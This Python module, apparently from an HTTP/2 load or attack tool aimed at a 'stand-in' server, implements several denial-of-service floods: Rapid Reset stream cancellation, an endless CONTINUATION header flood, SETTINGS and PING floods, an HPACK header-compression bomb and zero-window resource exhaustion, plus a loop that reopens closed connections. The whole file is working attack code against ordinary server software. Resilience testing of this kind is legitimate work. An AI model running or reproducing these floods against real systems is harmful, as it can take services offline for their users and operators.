"""HTTP/2 connections that keep the stand-in busy, or make it keep what nobody takes."""

import time

from .. import calls, http2
from ..http2 import CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, SETTINGS, frame
from ..target import drain, send

# Frames that go out together.
TOGETHER = 200


def rapid_reset(target, count):
    """Calls that are cancelled at once."""
    head = http2.block()

    def burst(first):
        streams = range(first, first + 2 * TOGETHER, 2)
        calls_of = (frame(HEADERS, END_HEADERS, stream, head) + http2.reset(stream) for stream in streams)
        return b"".join(calls_of), first + 2 * TOGETHER

    return flood(target, count, burst)


def continuation(target, count):
    """A head that never ends."""
    piece = http2.literal(b"x", b"y" * 1_000) * 16

    def burst(first):
        more = frame(CONTINUATION, 0, 1, piece) * TOGETHER
        return (frame(HEADERS, 0, 1, http2.block()) if first == 1 else b"") + more, 3

    return flood(target, count, burst)


def settings(target, count):
    return flood(target, count, lambda first: (frame(SETTINGS, payload=b"\0\3\0\0\0\x64") * TOGETHER, first))


def ping(target, count):
    return flood(target, count, lambda first: (frame(PING, payload=b"whatever") * TOGETHER, first))


def bomb(target, count):
    """A few bytes each that stand for a header of 4 KB."""
    large = http2.literal(b"x", b"y" * 4_000, indexed=True)

    def burst(first):
        # The youngest entry of the table has the number 62.
        head = http2.block() + (large if first == 1 else b"") + http2.integer(62, 7, 0x80) * 16_000
        pieces = [head[start : start + 16_000] for start in range(0, len(head), 16_000)]
        kinds = [HEADERS, *[CONTINUATION] * (len(pieces) - 1)]
        flags = [0] * (len(pieces) - 1) + [END_HEADERS]
        frames = (frame(kind, flag, first, piece) for kind, flag, piece in zip(kinds, flags, pieces))
        return b"".join(frames) + frame(DATA, END_STREAM, first, calls.SHARE), first + 2

    return flood(target, count, burst, worth=1)


def zero_windows(target, count):
    """A hundred calls each, whose answers no window is opened for."""
    head = http2.block()
    opening = http2.PREFACE + http2.settings(window=0)
    whole = opening + b"".join(
        frame(HEADERS, END_HEADERS, stream, head) + frame(DATA, END_STREAM, stream, calls.SHARE)
        for stream in range(1, 201, 2)
    )
    with target.connections(count) as connections:
        for connection in connections:
            if send(connection, whole) == len(whole):
                target.done += 100
        while True:
            yield
            for connection in connections:
                drain(connection)
            time.sleep(0.05)


def flood(target, count, burst, worth=TOGETHER):
    """Bursts of frames on each connection as fast as they are taken. One that the stand-in closes is opened again."""
    hello = http2.PREFACE + http2.settings()
    while True:
        with target.connections(count) as connections:
            waiting = dict.fromkeys(connections, hello)
            next_stream = dict.fromkeys(connections, 1)
            while waiting:
                for connection in list(waiting):
                    if not waiting[connection]:
                        waiting[connection], next_stream[connection] = burst(next_stream[connection])
                        target.done += worth
                    sent = send(connection, waiting[connection])
                    if sent is None or not drain(connection):
                        del waiting[connection]
                    else:
                        waiting[connection] = waiting[connection][sent:]
                yield
